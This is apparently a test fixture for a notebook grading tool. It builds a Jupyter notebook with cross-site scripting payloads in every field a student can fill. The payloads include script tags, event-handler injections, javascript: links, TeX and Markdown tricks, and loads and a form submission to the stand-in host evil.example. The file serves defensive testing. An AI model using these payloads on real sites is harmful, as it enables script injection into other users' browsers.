"""What a student may write to reach into somebody else's browser, and a notebook with one of these in every place."""

import json

EVIL = "http://evil.example"
RUN = "alert(1)"

# name: text. Each runs script, loads something or changes its page in some parser that knows what it is.
PAYLOADS = {
    # HTML
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT>",
    "img onerror": f"<img src=x onerror={RUN}>",
    "img from elsewhere": f'<img src="{EVIL}/pixel.png" alt="see">',
    "img with slashes": f"<img/src=x/onerror={RUN}>",
    "svg onload": f"<svg onload={RUN}></svg>",
    "svg animate": f'<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x"/></svg>',
    "math href": f'<math><mtext href="javascript:{RUN}">press</mtext></math>',
    "math with style": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={RUN}>'>",
    "iframe": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "embed": f'<embed src="{EVIL}/x.svg">',
    "base": f'<base href="{EVIL}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "stylesheet link": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "style import": f"<style>@import url({EVIL}/x.css); body {{ display: none }}</style>",
    "style attribute": f'<p style="background:url({EVIL}/x.png); position:fixed; top:0">cover</p>',
    "video poster": f'<video poster="{EVIL}/x.png" src="{EVIL}/x.mp4" autoplay></video>',
    "audio onerror": f"<audio src=x onerror={RUN} autoplay></audio>",
    "details ontoggle": f"<details open ontoggle={RUN}>more</details>",
    "input autofocus": f"<input autofocus onfocus={RUN}>",
    "form": f'<form action="{EVIL}/"><input name=score value=100></form><script>document.forms[0].submit()</script>',
    "body onload": f"<body onload={RUN}>",
    "comment end": f"--><script>{RUN}</script><!--",
    "textarea end": f"</textarea></pre></code></div><script>{RUN}</script>",
    "title end": f"</title></head><script>{RUN}</script>",
    "unfinished tag": f"<img src=x onerror={RUN} ",
    "tag over lines": f"<img\nsrc=x\nonerror={RUN}\n>",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "template": f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "jinja": "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
    # Markdown
    "picture from elsewhere": f"![see]({EVIL}/pixel.png)",
    "picture by reference": f"![see][1]\n\n[1]: {EVIL}/pixel.png",
    "script link": f"[press](javascript:{RUN})",
    "script link in disguise": f"[press](&#106;avascript&colon;{RUN}) [or](<java\nscript:{RUN}>)",
    "script link by reference": f"[press][1]\n\n[1]: javascript:{RUN} 'title'",
    "link to a page of formgrader": f"[press](/formgrader/manage_students/%3Cscript%3E{RUN}%3C%2Fscript%3E)",
    "picture in a link": f"[![see](attachment:dot.png)](javascript:{RUN})",
    "data link": f"[press](data:text/html,<script>{RUN}</script>)",
    "automatic links": f"<javascript:{RUN}> <{EVIL}/> {EVIL}/auto www.evil.example <1@evil.example>",
    "quote in an address": f'![x]({EVIL}/"onerror="{RUN})',
    "picture that is not there": "![see](attachment:nothing.png)",
    "drawn attachment": "![see](attachment:drawing.svg)",
    "attachment behind a bracket": f"<![see](attachment:dot.png) onerror={RUN}>",
    "heading of a score's field": "# test_pad\n\ntest_pad\n===",
    "mermaid": f'```mermaid\ngraph TD\nA["<img src=x onerror={RUN}>"] --> B\nclick A "javascript:{RUN}"\n```',
    "code": f"`<script>{RUN}</script>` and\n\n```html\n<script>{RUN}</script>\n```",
    # TeX
    "href macro": rf"$\href{{javascript:{RUN}}}{{press}}$",
    "url macro": rf"$$\url{{javascript:{RUN}}}$$",
    "macros that load": rf"$\require{{html}}\style{{background:url({EVIL}/x.png)}}{{shown}}\class{{btn}}{{word}}\cssId{{test_pad}}{{pad}}$",
    "picture macro": rf"$\includegraphics{{{EVIL}/x.png}}$",
    "script in a formula": rf"$$\text{{<script>{RUN}</script>}} <img src=x onerror={RUN}>$$",
    "attribute macro": rf'$\mmlToken{{mi}}[href="javascript:{RUN}"]{{press}} \color{{red" onclick="{RUN}}}{{word}}$',
    "redefined macro": r"$\def\text#1{\href{javascript:alert(1)}{#1}}\newcommand{\sum}{wrong}$",
    "environment": rf"\begin{{equation}}\href{{javascript:{RUN}}}{{press}}\end{{equation}}",
    # what a formula or a text can do by its form alone
    "deep formula": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "deep quote": "> " * 900 + "deep",
}  # fmt: skip
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg=="


def hostile_notebook(released: dict, text: str) -> bytes:
    """The released notebook (as plain data), handed in with the text in every place that a student can fill."""
    notebook = json.loads(json.dumps(released))
    attachments = {
        "dot.png": {"image/png": DOT},
        "drawing.svg": {"image/svg+xml": f"<svg onload={RUN}/>"},
        text: {"image/png": DOT},
        "other.png": {"text/html": text, "image/png": f'"onerror="{RUN}'},
    }
    for cell in notebook["cells"]:
        names = cell["metadata"].get("nbgrader", {})
        if names.get("solution") and cell["cell_type"] == "markdown":
            cell |= {"source": text, "attachments": attachments}
        elif names.get("solution"):
            cell["source"] += f"\n# {text}\n'''{text}'''"
    kinds = ("html", "markdown", "latex", "plain")
    data = {f"text/{kind}": text for kind in kinds} | {"image/svg+xml": text, "application/javascript": RUN}
    outputs = [
        {"output_type": "display_data", "data": data, "metadata": {"text/html": {"isolated": True}}},
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
    ]
    code = {"cell_type": "code", "source": text, "outputs": outputs, "execution_count": 1}
    notebook["cells"] += [
        {"cell_type": "markdown", "source": text, "metadata": {"tags": [text]}, "attachments": attachments},
        {"cell_type": "raw", "source": text, "metadata": {"raw_mimetype": "text/html"}},
        code | {"metadata": {"nbgrader": {"grade_id": text, "grade": True, "solution": False}}},
        {"cell_type": text, "source": text, "metadata": {}},
    ]
    notebook["metadata"] |= {
        "title": text,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": text}},
    }
    notebook["metadata"]["kernelspec"] = {"name": text, "display_name": text, "language": text}
    return json.dumps(notebook).encode()
